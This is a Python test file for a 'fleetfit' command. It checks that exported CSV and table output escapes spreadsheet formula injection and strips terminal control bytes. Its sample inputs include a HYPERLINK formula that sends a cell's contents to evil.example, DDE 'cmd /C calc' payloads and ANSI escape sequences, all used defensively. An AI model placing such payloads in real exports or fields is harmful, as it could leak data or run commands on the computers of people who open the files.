"""The ``fleetfit`` command under bad input: one clear line naming what is wrong, a non-zero exit, no traceback;
and output that hostile names cannot turn into spreadsheet formulas or terminal escapes."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

from conftest import FLEETFIT

from agent.protocol import Plan, Recommendation, SolverReport, WorkloadClass
from optimizer.lifecycle import Lifecycle

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "\rstarts with a CR",
    "\x1b[2J\x1b[31mred\x07",
]


def _recommendation(n: int, name: str) -> Recommendation:
    return Recommendation(
        id=f"rec-{n:04d}",
        workload=f"k8s/w{n}",
        workload_name=name,
        workload_class=WorkloadClass.INFERENCE,
        confidence=0.9,
        gpus=1,
        from_node="=cmd|' /C calc'!A0",
        from_hardware="H100-SXM5-80GB",
        to_node=f"l40s-{n}",
        to_hardware="L40S",
        monthly_savings_usd=1_000.0 + n,
        reason="inference on training hardware",
        performance_impact="none",
        risk="low",
        evidence=[],
    )


def test_recommendations_csv_and_table_neutralise_formulas_and_control_bytes(tmp_path: Path) -> None:
    recs = [_recommendation(n, name) for n, name in enumerate(HOSTILE_NAMES)]
    solver = SolverReport(status="OPTIMAL", objective=0, best_bound=0, gap=0, solve_seconds=0.1)
    life = Lifecycle.in_state_dir(tmp_path)
    life.record(Plan(site="lab", generated_at=1.7e9, solver=solver, recommendations=recs), {})
    life.close()
    base = [FLEETFIT, "recommendations", "--state-dir", str(tmp_path)]
    out = subprocess.run([*base, "--format", "csv"], capture_output=True, check=True, timeout=60).stdout.decode()
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (column, cell)
        assert row["from_node"] == "'=cmd|' /C calc'!A0"  # still readable, as text
    assert {r["workload"] for r in rows} >= {"'-2+3", "'@SUM(1+1)"}
    assert float(rows[0]["monthly_savings_usd"]) > 0  # numbers stay numbers
    table = subprocess.run(base, capture_output=True, check=True, timeout=60).stdout.decode()
    assert "\x1b" not in table and "\x07" not in table
